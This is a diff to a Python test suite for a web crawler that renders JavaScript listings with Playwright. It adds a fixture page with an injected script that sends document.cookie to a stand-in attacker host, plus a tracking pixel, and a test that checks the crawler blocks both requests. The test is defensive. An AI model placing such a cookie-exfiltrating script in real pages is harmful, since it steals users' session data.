@@ -49,6 +49,9 @@ def build(folder: Path, slow_article: float = 0.0) -> None:
 
     add(f"{SITE}/tin-tuc", "listing.html", LISTING.format(api="/api/tin-tuc.json"), "listing")
     add(f"{SITE}/cham", "slow-listing.html", LISTING.format(api="/api/cham.json"), "listing")
+    add(f"{SITE}/ngoai", "tracking-listing.html", LISTING.format(api="/api/tin-tuc.json").replace(
+        "</script>", 'fetch("https://evil.example.com/track?c=" + document.cookie);</script>'
+        '<img src="https://evil.example.com/pixel.gif">'), "listing")
     items = [{"url": f"/tin/bai-{n}-1000{n}.html", "title": t} for n, t in enumerate(TITLES)]
     add(f"{SITE}/api/tin-tuc.json", "list.json", json.dumps(items, ensure_ascii=False), "data", "application/json")
     add(f"{SITE}/api/cham.json", "slow.json", "[]", "data", "application/json", delay="30")
@@ -91,6 +94,14 @@ def test_js_listing_with_the_flag_is_rendered(server, tmp_path):
     assert stats["cchc/listing/rendered"] == 1 and stats["playwright/browser_count"] == 1
     assert not stats.get("cchc/browser/fallback")
     assert stats.get("playwright/request_count/aborted", 0) >= 0  # images/fonts/media are blocked, none here
+
+
+def test_page_scripts_cannot_reach_other_sites(server, tmp_path):
+    result = crawl(server, tmp_path / "f.db", "-a", "js=true", start="/ngoai")
+    assert result.returncode == 0, result.stderr[-3000:]
+    stats = crawl_stats(result)
+    assert titles(tmp_path / "f.db") == sorted(TITLES)
+    assert stats["playwright/request_count/aborted"] >= 2  # the tracking fetch and the pixel never left
 
 
 def test_without_the_flag_static_html_has_no_links(server, tmp_path):
